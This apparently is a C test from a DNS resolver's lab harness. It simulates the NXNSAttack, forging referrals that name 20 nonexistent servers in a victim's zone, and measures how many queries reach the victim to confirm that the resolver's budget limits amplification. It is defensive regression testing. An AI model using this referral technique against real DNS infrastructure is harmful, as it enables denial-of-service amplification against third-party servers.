/* nxns: the NXNSAttack (Afek, Bremler-Barr, Shafir, 2020).
 *
 * The attacker's server answers a query with a referral: "ask one of these 20 servers".  None
 * of their names exists, and all are in the victim's zone.  A resolver that is eager to find an
 * address asks the victim's server for each of them: one query of the attacker becomes many at
 * the victim, and its own server hands out new names at no cost. */
#include <unistd.h>

#include "tools/lab/experiment.h"

enum {
    NXNS_QUERIES = 10, /* of the attacker */
    NXNS_SERVERS = 20, /* named by each referral: a reply over UDP has no room for more */
    NXNS_WAIT_MS = 8000,
};

/* A name such as www.zone7.evil.attacker32.com: refer to servers in bank.com. */
static void answer_nxns(struct trial *t, const struct message *query,
                        struct trial_message *reply)
{
    char name[DNAME_TEXT_MAX], zone[64], target[64];
    unsigned number;

    (void)t;
    trial_print_qname(query, name);
    const char *at = strstr(name, "zone");
    if (!at || sscanf(at + 4, "%u", &number) != 1)
        return;
    snprintf(zone, sizeof(zone), "zone%u.evil.attacker32.com", number);
    util_put_u16(reply->wire + 2, MESSAGE_QR); /* a referral is not authoritative */
    for (unsigned i = 0; i < NXNS_SERVERS; i++) {
        snprintf(target, sizeof(target), "n%u-%u.bank.com", number, i);
        trial_record_name(reply, MESSAGE_AUTHORITY, zone, RRTYPE_NS, 3600, target);
    }
}

static void run_nxns(struct trial *t)
{
    const struct addr at = trial_second("attacker", 53);
    int server = trial_open(t, "attacker", &at, SOCK_DGRAM), ear = trial_open_ear(t, "bank");
    unsigned at_attacker = 0, at_victim = 0;
    char name[80];

    for (unsigned i = 0; i < NXNS_QUERIES; i++) {
        snprintf(name, sizeof(name), "www.zone%u.evil.attacker32.com", i);
        int client = trial_ask_begin(t, "bob", name, RRTYPE_A);
        at_attacker += trial_serve(t, server, client, NXNS_WAIT_MS, answer_nxns);
        (void)trial_ask_end(client, NXNS_WAIT_MS);
        const unsigned cnt = trial_count_queries(ear);
        trial_tell(t, "%s: %u queries at the bank's server", name, cnt);
        at_victim += cnt;
    }
    close(server);
    close(ear);
    trial_number(t, "attack-queries", NXNS_QUERIES);
    trial_number(t, "queries-at-the-attacker", at_attacker);
    trial_number(t, "queries-at-the-victim", at_victim);
    const double factor = (double)at_victim / NXNS_QUERIES;
    trial_real(t, "factor", factor);
    trial_end(t, factor > 11, "%.1f queries at the victim for each of the attacker", factor);
}

const struct experiment experiment_nxns = {
    .name = "nxns",
    .what = "a referral names servers in the victim's zone that do not exist (NXNSAttack)",
    .without = "budget",
    .stopped =
        "of a referral with more than 13 servers only 5 names may fail; 13 are kept in any "
        "case, which bounds the run without the budget too (a resolver of 2020 asked for "
        "all 1500 of a large referral)",
    .counters = {"queries-sent-udp", "resolutions-limited"},
    .run = run_nxns,
};
